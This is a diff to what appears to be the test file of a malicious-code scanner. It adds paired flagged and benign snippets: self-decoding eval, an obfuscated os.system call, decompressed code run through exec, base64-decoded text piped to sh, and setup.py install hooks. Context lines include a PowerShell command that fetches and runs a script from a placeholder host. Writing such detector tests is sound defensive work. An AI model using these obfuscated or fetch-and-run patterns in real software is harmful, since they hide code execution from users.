@@ -290,6 +290,17 @@ const PAIRS: readonly Pair[] = [
     `var t = 0; for (const n of [${'101,'.repeat(600)}]) t += n; show(t)`,
   ),
   js(
+    'obfuscation/unpacks-itself',
+    `eval(plain("${escape('add(1, 2); '.repeat(40))}")); function plain(text) { return unescape(text) }`,
+    `eval(plain("${escape('require')}")); function plain(text) { return unescape(text) }`,
+  ),
+  py('obfuscation/hidden-name', `eval('o' + 's.s' + 'ystem')('x')`, `eval('os.system')('x')`),
+  py(
+    'dynamic-code/decoded',
+    'import zlib\nℯ𝓍ℯ𝒸(zlib.decompress(b).decode())',
+    'import zlib\nprint(zlib.decompress(b).decode())',
+  ),
+  js(
     'obfuscation/hidden-component',
     `new ActiveXObject('WScr' + 'ipt.Shell')`,
     `new ActiveXObject('Microsoft.XMLHTTP')`,
@@ -367,6 +378,11 @@ const PAIRS: readonly Pair[] = [
     `require('child_process').exec('echo aWQK | base64 -d | sh')`,
     `require('child_process').exec('echo aWQK | base64 -d > a.txt')`,
   ),
+  py(
+    'child-process/decoded-shell',
+    `import os\nos.system('echo %s|base64 -d|sh' % made())`,
+    `import os\nos.system('echo %s|base64 -d' % made())`,
+  ),
   js(
     'child-process/fetched-powershell',
     `require('child_process').exec("powershell iex (iwr https://a.example.invalid/x.ps1)")`,
@@ -442,6 +458,12 @@ const PAIRS: readonly Pair[] = [
     'persistence/install-network',
     `import requests\nfrom setuptools import setup\nrequests.get('https://a.example.invalid')\nsetup(name='x')`,
     `from setuptools import setup\nsetup(name='x', url='https://a.example.invalid')`,
+    { path: 'setup.py' },
+  ),
+  py(
+    'persistence/install-starts',
+    `import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass Hook(install):\n  def run(self):\n    subprocess.run(['hello'])\nsetup(name='x', cmdclass={'install': Hook})`,
+    `import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass Hook(install):\n  def run(self):\n    subprocess.run(['cmake', '..'])\nsetup(name='x', cmdclass={'install': Hook})`,
     { path: 'setup.py' },
   ),
   py(
